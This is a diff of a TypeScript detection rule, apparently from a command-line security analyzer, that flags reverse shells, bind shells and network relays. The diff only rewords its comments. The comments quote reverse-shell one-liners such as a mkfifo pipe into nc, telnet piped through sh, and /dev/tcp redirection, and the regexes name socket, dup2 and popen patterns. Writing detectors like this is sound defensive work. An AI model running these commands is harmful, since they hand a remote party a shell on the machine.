@@ -1,4 +1,4 @@
-/** Shells that somebody else gets: reverse and bind shells, relays, tunnels into an interpreter. */
+/** Shells for others: reverse and bind shells, relays, interpreters connected to the network. */
 import type { Invocation } from '../../shell/model.ts';
 import { type CommandLineContext, type CommandLineRule, inFamily, type StepRule } from '../rule.ts';
 import { type Step, upstream } from '../step.ts';
@@ -12,7 +12,10 @@ const SHELL_WORD = /(?:^|[\s:='"/(,])(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|a|c|tc)?
 const usesNetFile = (step: Step): boolean =>
   step.invocation.redirections.some((item) => NET_FILE.test(item.target.text)) && !step.isWrapper;
 
-/** `exec 5<>/dev/tcp/…` alone is a client; with a shell reading or writing it, it is a door. */
+/**
+ * `exec 5<>/dev/tcp/…` alone is a client; together with a shell that reads or writes it, it is a
+ * remote shell.
+ */
 const netShell = ({ steps, analysis }: CommandLineContext): boolean => {
   const opens = steps.some(usesNetFile) || analysis.redirections.some((item) => NET_FILE.test(item.target.text));
   return (
@@ -41,8 +44,8 @@ const isNet = (item: Invocation): boolean =>
   (item.tool !== 'openssl' || item.args[0]?.text === 's_client' || item.args[0]?.text === 's_server');
 
 /**
- * A shell with a network program before or behind it in the pipeline: `mkfifo p; sh <p | nc h 1
- * >p`, `telnet h 1 | sh | telnet h 2`.
+ * A shell next to a network program in a pipeline: `mkfifo p; sh <p | nc h 1 >p`, `telnet h 1 | sh
+ * | telnet h 2`.
  */
 const pipedToNet = (step: Step): boolean => {
   if (step.isWrapper || !INTERPRETER.test(step.tool) || (step.code !== '' && !SHELL.test(step.tool))) return false;
@@ -67,7 +70,7 @@ const codeShell = (step: Step): boolean => {
     SOCKET.test(text) &&
     SPAWN.test(text) &&
     (/\bsh\b|cmd\.exe|powershell|getline|\$SHELL|\/bin\//.test(text) ||
-      // What comes over the line is run as a command: no shell has to be named for that.
+      // Received text is run as a command, so no shell needs to be named.
       /dup2|popen\(\s*\w+\s*,|\.gets\b[\s\S]*(?:popen|system|exec)|recv\([\s\S]*(?:popen|system|exec|subprocess)/i.test(
         text,
       ))
